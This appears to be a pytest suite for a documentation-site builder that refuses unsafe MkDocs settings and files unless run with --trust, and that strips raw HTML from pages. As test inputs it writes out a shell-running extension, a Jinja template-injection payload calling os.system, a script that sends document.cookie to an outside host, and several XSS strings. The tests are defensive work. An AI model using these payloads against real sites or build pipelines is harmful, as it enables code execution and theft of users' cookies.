"""Issue 10, item 1: whatever would run code or put script into the site is refused unless --trust."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest
from corpus import World

pytestmark = pytest.mark.slow


def mkdocs(text: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        (w.project / "mkdocs.yml").write_text(text.replace("OUTSIDE", str(w.outside)), "utf-8")
    return setup


def project_file(rel: str, text: str) -> Callable[[World], None]:
    def setup(w: World) -> None:
        path = w.project / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("OUTSIDE", str(w.outside)), "utf-8")
    return setup


# (case, setup, where, words): every case is a build of the changed project, refused.
REFUSED = [
    ("extension-runs-a-shell", mkdocs(
        'site_name: x\nmarkdown_extensions:\n  - "subprocess:Popen":\n      args: "touch OUTSIDE/ran"\n'
        "      shell: true\n"), "mkdocs.yml:3:5", ["unsafe-setting", "--trust"]),
    ("snippets-read-any-file", mkdocs(
        "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: ['/']\n"), "mkdocs.yml:2:5",
     ["pymdownx.snippets", "--trust"]),
    ("b64-reads-files", mkdocs("markdown_extensions: [pymdownx.b64]\n"), "mkdocs.yml:1:23", ["--trust"]),
    ("plugin-not-allowed", mkdocs("plugins:\n  - search\n  - privacy\n"), "mkdocs.yml:3:5", ["privacy", "--trust"]),
    ("plugin-map-form", mkdocs("plugins:\n  social: {}\n"), "mkdocs.yml:2:3", ["social"]),
    ("hooks", mkdocs("site_name: x\nhooks: [evil.py]\n"), "mkdocs.yml:2:1", ["hooks", "--trust"]),
    ("inherit", mkdocs("INHERIT: OUTSIDE/other.yml\n"), "mkdocs.yml:1:1", ["INHERIT", "--trust"]),
    ("extra-templates", mkdocs("extra_templates: [x.html]\n"), "mkdocs.yml:1:1", ["extra_templates"]),
    ("theme-custom-dir", mkdocs("theme:\n  custom_dir: mine\n"), "mkdocs.yml:2:3", ["custom_dir", "--trust"]),
    ("extra-javascript", mkdocs("extra_javascript:\n  - assets/site_config/x.js\n"), "mkdocs.yml:2:5",
     ["JavaScript", "--trust"]),
    ("python-tag", mkdocs("markdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
                          "        - name: x\n          class: x\n          format: !!python/name:os.system\n"),
     "mkdocs.yml:6:19", ["yaml-tag", "--trust"]),
    ("env-tag", mkdocs("site_name: !ENV [HOME]\n"), "mkdocs.yml:1:12", ["yaml-tag"]),
    ("theme-override-jinja", project_file(
        "site_config/overrides/main.html",
        "{% extends 'base.html' %}{% block content %}"
        "{{ lipsum.__globals__['os'].system('touch OUTSIDE/ran') }}{% endblock %}"),
     "site_config/overrides/main.html:1:1", ["unsafe-file", "--trust"]),
    ("javascript-in-site-config", project_file("site_config/evil.js", "fetch('https://x/'+document.cookie)"),
     "site_config/evil.js:1:1", ["JavaScript", "--trust"]),
    ("html-in-site-config", project_file("site_config/page.html", "<script>alert(1)</script>"),
     "site_config/page.html:1:1", ["unsafe-file"]),
    ("svg-in-site-config", project_file("site_config/logo.svg", "<svg><script>alert(1)</script></svg>"),
     "site_config/logo.svg:1:1", ["unsafe-file"]),
    ("page-front-matter-template", project_file("content/pages/notes.md", "---\ntemplate: x.html\n---\n# Notes\n"),
     "content/pages/notes.md:2:1", ["template", "--trust"]),
]


@pytest.mark.parametrize("case, setup, where, words", REFUSED, ids=[c[0] for c in REFUSED])
def test_refused_untrusted(world: World, case: str, setup: Callable[[World], None], where: str,
                           words: list[str]) -> None:
    setup(world)
    done = world.run("build")
    world.refused(done, where, 1, words)
    assert not (world.outside / "ran").exists()


def test_validate_reports_refusals_too(world: World) -> None:
    """The refusals are load-stage findings: validate (which writes nothing) reports them, located."""
    mkdocs("plugins: [search, privacy]\n")(world)
    project_file("site_config/evil.js", "alert(1)")(world)
    done = world.run("validate", "--format", "json")
    assert done.returncode == 1
    found = {(d["file"], d["line"], d["col"], d["check"]) for d in json.loads(done.stdout)}
    assert ("mkdocs.yml", 1, 19, "unsafe-setting") in found
    assert ("site_config/evil.js", 1, 1, "unsafe-file") in found
    assert world.run("validate", "--trust").returncode == 0


def test_trusted_theme_override_and_tags_run_as_mkdocs_would(world: World) -> None:
    """With --trust, a custom_dir override renders and a !!python/name tag reaches MkDocs."""
    (world.project / "mine").mkdir()
    (world.project / "mine" / "main.html").write_text(
        "{% extends 'base.html' %}{% block content %}TRUSTED-OVERRIDE {{ super() }}{% endblock %}", "utf-8")
    (world.project / "mkdocs.yml").write_text(
        "theme:\n  custom_dir: mine\nmarkdown_extensions:\n  - pymdownx.superfences:\n      custom_fences:\n"
        "        - name: demo\n          class: demo\n"
        "          format: !!python/name:pymdownx.superfences.fence_code_format\n",
        "utf-8")
    refused = world.run("validate")
    assert refused.returncode == 1 and "--trust" in refused.stderr
    done = world.run("build", "--trust")
    assert done.returncode == 0, done.stderr
    assert "TRUSTED-OVERRIDE" in (world.site / "index.html").read_text("utf-8")


def test_trust_is_never_read_from_a_project_file(world: World) -> None:
    for name, text in (("mkdocs.yml", "trust: true\nhooks: [x.py]\n"),):
        (world.project / name).write_text(text, "utf-8")
    done = world.run("build")
    world.refused(done, "mkdocs.yml:2:1", 1, ["hooks"])


def test_css_and_images_in_site_config_stay_allowed(world: World) -> None:
    (world.project / "site_config").mkdir()
    (world.project / "site_config" / "brand.css").write_text(".md-header { background: #123456; }\n", "utf-8")
    (world.project / "site_config" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 16)
    done = world.run("build")
    assert done.returncode == 0, done.stderr
    assert (world.site / "assets" / "site_config" / "brand.css").is_file()
    assert "assets/site_config/brand.css" in (world.site / "index.html").read_text("utf-8")


def test_raw_html_in_pages_is_cleaned(world: World) -> None:
    page = world.project / "content" / "pages" / "notes.md"
    page.parent.mkdir(parents=True)
    page.write_text(
        '---\ntitle: "<img src=x onerror=alert(1)>"\n---\n# Notes <img src=x onerror=alert(2)>\n\n'
        'Hello <script>alert(3)</script> <a href="javascript:alert(4)">x</a> '
        '<a href="https://example.org/">ok</a>\n\n[md](javascript:alert(5))\n\n'
        '## Head {onclick="alert(6)"}\n\n<div markdown="1" onmouseover="alert(7)">**bold**</div>\n\n'
        '![pixel](data:image/png;base64,AAAA)\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n'
        '```html\n<script>shown as code</script>\n```\n', "utf-8")
    done = world.run("build")
    assert done.returncode == 0, done.stderr
    html = (world.site / "pages" / "notes" / "index.html").read_text("utf-8")
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", html), "an event handler attribute survived"
    for attack in ("<script>alert", 'href="javascript:', 'src="data:'):
        assert attack not in html, attack
    assert '<a href="https://example.org/">ok</a>' in html and "<strong>bold</strong>" in html
    assert '<th style="text-align: left;">a</th>' in html  # table alignment kept
    assert "&lt;/span&gt;" in html or "shown" in html  # the code block is still there, as code
    assert "<title>&lt;img src=x onerror=alert(1)&gt; - " in html  # the title is text
    for other in world.site.rglob("*.html"):
        text = other.read_text("utf-8")
        assert "<img src=x onerror" not in text and "<script>alert" not in text, other


def test_trusted_pages_pass_as_written(world: World) -> None:
    page = world.project / "content" / "pages" / "notes.md"
    page.parent.mkdir(parents=True)
    page.write_text('# Notes\n\n<span class="kept" data-x="1">raw</span>\n', "utf-8")
    done = world.run("build", "--trust")
    assert done.returncode == 0, done.stderr
    assert '<span class="kept" data-x="1">raw</span>' in (world.site / "pages" / "notes" / "index.html").read_text()
